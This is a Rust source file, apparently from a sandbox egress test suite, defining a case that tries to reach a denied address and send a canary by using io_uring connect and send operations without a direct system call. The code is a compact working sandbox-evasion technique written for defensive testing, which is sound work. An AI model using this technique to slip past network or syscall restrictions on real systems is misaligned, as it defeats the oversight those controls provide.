//! A connection made by a ring (io_uring), without a system call of its own.

use crate::attack::socket;
use crate::case::Case;
use crate::target::Target;
use anyhow::{Context, Result};
use io_uring::types::{Fd, SubmitArgs, Timespec};
use io_uring::{IoUring, opcode, squeue::Flags};
use socket2::{SockAddr, Type};
use std::os::fd::AsRawFd;

pub(super) const CASE: Case =
    Case::new("uring-connect", "a connection made by a ring (io_uring), without a system call of its own", attempt);

fn attempt(target: &Target) -> Result<()> {
    let socket = socket(target.denied(8080), Type::STREAM, None)?;
    let to = SockAddr::from(target.denied(8080));
    let mut ring = IoUring::new(4)?;
    let fd = Fd(socket.as_raw_fd());
    let connect = opcode::Connect::new(fd, to.as_ptr().cast(), to.len()).build().flags(Flags::IO_LINK);
    let send = opcode::Send::new(fd, target.canary.as_ptr(), u32::try_from(target.canary.len())?).build();
    // SAFETY: what the entries point to lives until both have completed.
    unsafe { ring.submission().push_multiple(&[connect, send]) }.context("the ring is full")?;
    ring.submitter().submit_with_args(2, &SubmitArgs::new().timespec(&Timespec::new().sec(1)))?;
    Ok(())
}
